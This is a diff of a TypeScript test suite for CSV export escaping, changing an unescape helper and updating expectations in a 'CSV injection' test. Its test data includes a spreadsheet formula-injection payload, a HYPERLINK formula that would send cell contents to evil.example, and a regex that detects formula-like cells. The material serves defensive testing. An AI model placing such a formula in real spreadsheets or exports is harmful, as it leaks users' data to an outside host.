@@ -139,8 +139,8 @@ function parseCsv(text: string): { raw: string; value: string }[][] {
   return rows;
 }
 
-/** What the export's documentation promises: drop one leading ' to get the exact value back. */
-const unescape = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
+/** What the export's documentation promises: drop the ' at the start and the ' right after each , ; tab, CR or LF. */
+const unescape = (cell: string) => cell.replace(/^'/, '').replace(/([,;\t\r\n])'/g, '$1');
 
 /** A value a spreadsheet would take for a formula (or strip down to one). */
 const FORMULA_LIKE = /^(?:[\t\r\n\0]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
@@ -758,10 +758,10 @@ describe('CSV injection', () => {
     expect(byHolder.get("'quoted")![3].raw).toBe(`"''quoted"`);
     expect(byHolder.get("'quoted")![11].raw).toBe(`"""'m"""`); // metadata is JSON text: a JSON string starts with "
     expect(byHolder.get('=HYPERLINK("http://evil.example/?"&A1,"click")')![11].raw).toBe(`"'-5"`);
-    expect(byHolder.get('alice')![3].raw).toBe('alice');
+    expect(byHolder.get('alice')![3].raw).toBe('"alice"');
     expect(byHolder.get('alice')![0].raw).toMatch(/^\d+$/);
     expect(byHolder.get('alice')![5].raw).toBe(`"'@Partner =1+1"`);
-    expect(rows.filter((row) => row[2].raw === 'SAFE-7')).toHaveLength(1);
+    expect(rows.filter((row) => row[2].raw === '"SAFE-7"')).toHaveLength(1);
   });
 });
 
